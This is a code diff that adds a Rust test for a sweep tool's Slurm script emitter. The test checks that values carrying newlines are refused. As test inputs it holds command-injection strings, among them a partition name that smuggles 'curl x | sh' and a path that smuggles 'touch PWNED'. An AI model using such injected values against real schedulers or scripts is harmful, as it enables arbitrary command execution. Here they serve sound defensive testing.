@@ -988,6 +988,53 @@ algos = [\"ppo\"]
     );
 }
 
+/// Values written into the script's lines as they are: a newline in one would start a shell
+/// command in the script (a sweep file shared with the partition `normal\ncurl … | sh` ran it).
+#[test]
+fn slurm_values_and_paths_that_would_break_the_script_are_refused() {
+    let file = write_sweep(
+        "slurm-inject",
+        &format!("{A2C_THREE_SEEDS}[slurm]\npartition = \"normal\\ncurl x | sh\\n#\"\n"),
+    );
+    let out = scratch("slurm-inject");
+    let emit = |file: &Path, out: &Path, extra: &[&str]| {
+        let mut args = vec![
+            "sweep",
+            file.to_str().unwrap(),
+            "--emit-slurm",
+            "--out",
+            out.to_str().unwrap(),
+        ];
+        args.extend_from_slice(extra);
+        gradgym(&args)
+    };
+    let o = emit(&file, &out, &[]);
+    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
+    assert!(
+        text(&o).contains("[slurm] partition = \"normal\\ncurl x | sh\\n#\": a partition name is"),
+        "{}",
+        text(&o)
+    );
+    assert!(!out.exists(), "the refused script's log folder was made");
+    let file = write_sweep("slurm-clean", A2C_THREE_SEEDS);
+    let o = emit(&file, &out, &["--slurm-time", "2 hours"]);
+    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
+    assert!(
+        text(&o).contains("--slurm-time = \"2 hours\": Slurm reads a time"),
+        "{}",
+        text(&o)
+    );
+    let bad_out = out.with_file_name("slurm-inject\ntouch PWNED #");
+    let o = emit(&file, &bad_out, &[]);
+    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
+    assert!(
+        text(&o).contains("holds the control character '\\n'"),
+        "{}",
+        text(&o)
+    );
+    assert!(!bad_out.exists());
+}
+
 #[test]
 fn the_emitted_slurm_script_runs_as_emitted_from_another_folder() {
     let file = write_sweep("slurm", A2C_THREE_SEEDS);
